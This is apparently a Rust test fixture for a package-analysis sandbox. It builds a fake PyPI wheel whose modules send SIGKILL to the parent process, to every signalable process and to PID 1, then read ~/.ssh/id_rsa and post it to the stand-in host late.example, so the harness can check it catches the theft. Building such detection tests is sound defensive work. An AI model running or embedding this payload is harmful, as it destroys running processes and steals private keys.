//! Sends SIGKILL to its parent and to every process it may signal.
//!
//! Must change nothing: the supervisor is out of reach, and the module after it steals, and is found.

use apa_model::{Ecosystem, IncompleteCode};

use crate::{Expect, Specimen, Wheel};

const KILLS: &str = r#"import os
import signal

for target in (os.getppid(), -1, 1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
os.kill(os.getpid(), signal.SIGKILL)
"#;

const LATE: &str = r#"import os
import urllib.request

with open(os.path.expanduser("~/.ssh/id_rsa"), "rb") as file:
    urllib.request.urlopen("http://late.example/x", file.read(), timeout=5)
"#;

pub(super) fn specimen() -> Specimen {
    let package = Wheel::new("killer", "1.0")
        .file("killer/__init__.py", "")
        .file("killer/a_kills.py", KILLS)
        .file("killer/z_late.py", LATE);
    Specimen {
        name: "pypi-kills-everything",
        ecosystem: Ecosystem::Pypi,
        filename: package.filename(),
        bytes: package.build(),
        served: Vec::new(),
        expect: Expect::malicious(&["canary-exfiltrated"])
            .lacking(&[IncompleteCode::HarnessIncomplete]),
    }
}
